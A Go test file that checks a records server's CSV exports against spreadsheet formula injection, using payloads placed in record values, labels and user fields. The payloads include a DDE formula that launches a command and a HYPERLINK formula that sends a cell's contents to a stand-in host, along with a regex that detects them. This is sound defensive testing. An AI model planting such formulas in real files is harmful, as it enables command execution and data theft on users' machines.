package server

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"
)

// payloads are texts that a spreadsheet would run.
var payloads = []string{
	"=1+1", `=cmd|' /C calc'!A0`, `=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+cmd", "-2+3+cmd", "@SUM(1)", "＝1+1", "＋1", "－1+1", "＠x", " =1", "'=1", "''=1", `x";=1`, "x,=1+1", "x;=1+1", "x\t=1+1", "a\n=1+1",
}

// runs finds a cell that a spreadsheet would run: what is no negative number and begins with one of the signs.
var (
	runs     = regexp.MustCompile(`^[\s　]*[=+\-@＝＋－＠\t\r]`)
	negative = regexp.MustCompile(`^-[0-9][0-9.,]*$`)
)

// harmless fails when a spreadsheet that takes the file for what it is, or for one with another separator, would run
// something.
func harmless(t *testing.T, what, text string) {
	t.Helper()
	text = strings.TrimPrefix(text, "\ufeff")
	for _, separator := range []rune{',', ';', '\t'} {
		r := csv.NewReader(strings.NewReader(text))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = separator, true, -1
		rows, err := r.ReadAll()
		if err != nil && separator == ',' {
			t.Errorf("%s: %v", what, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				for line := range strings.SplitSeq(cell, "\n") {
					if runs.MatchString(strings.Trim(line, `"`)) && !negative.MatchString(cell) {
						t.Errorf("%s, separated by %q: a spreadsheet runs %q of %q", what, separator, line, cell)
					}
				}
			}
		}
	}
}

// Attack case 45: no file that is given out holds anything that a spreadsheet runs, wherever it came from, and what is
// taken in again is what it was.
func TestFilesHoldNoFormulas(t *testing.T) {
	eachSite(t, func(t *testing.T, s *testSite) {
		// In values, in names of fields, options, files and people.
		label := `=HYPERLINK("x")`
		s.define("=app", fmt.Sprintf(`"text":{"type":"SINGLE_LINE_TEXT","code":"text","label":%q},"memo":{"type":"MULTI_LINE_TEXT","code":"memo","label":"+memo"},"n":{"type":"NUMBER","code":"n","unit":"=1"},
			"kind":{"type":"CHECK_BOX","code":"kind","options":{"=a":{"label":"=a","index":"0"},"@b":{"label":"@b","index":"1"}}},"docs":{"type":"FILE","code":"docs"},"who":{"type":"USER_SELECT","code":"who"},
			"calc":{"type":"SINGLE_LINE_TEXT","code":"calc","expression":"\"=\" & text"},
			"lines":{"type":"SUBTABLE","code":"lines","fields":{"part":{"type":"SINGLE_LINE_TEXT","code":"part","label":"-part"}}}`, label))
		s.must("root", "POST /v1/users.json", `{"users":[{"code":"=user","name":"=cmd|x","password":"password of x","surName":"@SUM(1)","description":"+1+1","phone":"+81-3-1234-5678"}]}`)
		for _, p := range payloads {
			key := s.upload("root", strings.NewReplacer("\n", "", "\t", "", "/", "").Replace(p), "text/plain", "x").fileKey()
			one := p
			if strings.ContainsAny(p, "\n") {
				one = "x"
			}
			record := map[string]any{
				"text": map[string]any{"value": one}, "memo": map[string]any{"value": p}, "n": map[string]any{"value": "-12.5"}, "kind": map[string]any{"value": []string{"=a", "@b"}},
				"docs": map[string]any{"value": []any{map[string]string{"fileKey": key}}}, "who": map[string]any{"value": []any{map[string]string{"code": "=user"}}},
				"lines": map[string]any{"value": []any{map[string]any{"value": map[string]any{"part": map[string]any{"value": one}}}}},
			}
			body, err := json.Marshal(map[string]any{"app": 1, "record": record})
			if err != nil {
				t.Fatal(err)
			}
			s.must("root", "POST /k/v1/record.json", string(body))
		}
		file := s.call("root", "GET /api/v1/export.csv?app=1&query="+url.QueryEscape("order by $id asc"), "")
		if file.Status != 200 || !strings.Contains(string(file.Body), "-12.5") {
			t.Fatalf("%s %s", file, file.Body)
		}
		harmless(t, "records", string(file.Body))
		harmless(t, "in Shift_JIS", string(s.call("root", "GET /api/v1/export.csv?app=1&fields[0]=docs&fields[1]=n&encoding=shift_jis", "").Body))
		if name := file.Header.Get("Content-Disposition"); strings.ContainsAny(name, "\r\n") || !strings.HasPrefix(name, "attachment") {
			t.Errorf("its name: %q", name)
		}

		// Back in an app of its own, everything is what it was.
		flat := s.call("root", "GET /api/v1/export.csv?app=1&fields[0]=text&fields[1]=memo&fields[2]=n&query="+url.QueryEscape("order by $id asc"), "")
		s.takeIn(string(flat.Body))
		for i, p := range payloads {
			got := string(s.call("root", fmt.Sprintf("GET /k/v1/record.json?app=2&id=%d", i+1), "").Body)
			if want, _ := json.Marshal(p); !strings.Contains(compact([]byte(got)), `"value":`+compact(want)) || !strings.Contains(got, `"-12.5"`) {
				t.Errorf("%q came back as %s", p, got)
			}
		}

		for _, kind := range []string{"user", "organization", "group", "title", "userOrganizations", "userGroups"} {
			if content := s.file(kind, ""); kind == "user" {
				harmless(t, "users", content)
				if got := s.take(kind, content); got != "done" {
					t.Errorf("users taken in again: %s", got)
				}
				s.play([]step{{call: "GET /v1/users.json", in: `{"codes":["=user"]}`, has: []string{`"name":"=cmd|x"`, `"surName":"@SUM(1)"`, `"description":"+1+1"`, `"phone":"+81-3-1234-5678"`}}})
			}
		}
	})
}

// takeIn makes an app of a file, with all columns texts of several lines but the last, which is numbers.
func (s *testSite) takeIn(content string) {
	s.T.Helper()
	a := s.do(s.uploadRequest("root", "POST /api/v1/imports", "a.csv", "text/csv", content))
	var out struct {
		ID      string
		Columns []struct{ Label string }
	}
	if a.Status != 200 || json.Unmarshal(a.Body, &out) != nil {
		s.T.Fatalf("%s %s", a, a.Body)
	}
	s.must("root", "POST /api/v1/import/start", fmt.Sprintf(`{"id":%s,"appName":"back","columns":[{"index":0,"label":"a","type":"SINGLE_LINE_TEXT"},{"index":1,"label":"b","type":"MULTI_LINE_TEXT"},{"index":2,"label":"c","type":"NUMBER"}]}`, out.ID))
	s.drain()
}
